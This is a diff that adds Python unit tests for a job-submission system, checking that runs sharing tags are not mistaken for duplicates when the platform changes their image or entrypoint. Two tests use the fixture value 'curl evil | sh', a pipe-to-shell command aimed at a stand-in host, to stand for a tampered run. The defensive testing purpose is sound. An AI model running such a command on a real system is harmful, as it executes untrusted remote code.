@@ -349,3 +349,49 @@ def test_with_ignored_fields_too_only_one_of_two_stays() -> None:
     older = replace(run(other, "Running"), created=EPOCH)
     world.add(older)
     assert world.drive(confirm(outcome)).result.run == older.id
+
+
+def mirroring(world: World) -> World:
+    """A platform that runs another image than the one that it is sent."""
+
+    def alter(call: Call) -> None:
+        if isinstance(call, Get) and call.run in world.runs:
+            live = world.runs[call.run]
+            world.runs[call.run] = replace(live, spec={"ImageSpec": {"Id": "mirror/pytorch:1.7"}})
+
+    world.before = alter
+    return world
+
+
+def test_what_the_platform_made_of_our_own_request_is_no_copy_of_tags_for_the_next_plan() -> None:
+    world = mirroring(World())
+    result = submit(world).result
+    assert (result.status, [d.field for d in result.altered]) == (Status.DONE, ["spec.image"])
+    assert only(planned([TRAIN], list(world.runs.values()))).reason == "in-progress"
+
+
+def test_where_the_platform_cannot_update_the_outcome_says_what_the_next_plan_makes_of_it() -> None:
+    world = mirroring(World(faults=[Fault(Write, 1, Refused("no", action="UpdateCustomTask"))]))
+    result = submit(world).result
+    assert result.status is Status.DONE
+    assert "takes it for a copy" in result.detail
+    assert only(planned([TRAIN], list(world.runs.values()))).blocked == "inconsistent-tags"
+
+
+def test_a_copy_of_tags_that_no_plan_saw_does_not_pass_for_what_was_submitted() -> None:
+    world = World()
+    world.add(replace(run(TRAIN, "Failed"), spec={"EntrypointPath": "curl evil | sh"}))
+    outcome = submit(world)
+    assert outcome.status is Status.SKIPPED
+    assert "another `spec.entrypoint`" in outcome.result.detail
+    assert world.count(Create) == 0
+
+
+@pytest.mark.parametrize(("command", "left"), [("python train.py", 1), ("curl evil | sh", 2)])
+def test_a_run_is_no_duplicate_of_an_older_one_that_only_has_its_tags(command: str, left: int) -> None:
+    world = World()
+    outcome = submit(world)
+    world.add(replace(run(TRAIN, "Running"), spec={"EntrypointPath": command}))
+    world.drive(confirm(outcome))
+    world.time += 10
+    assert len(world.active()) == left
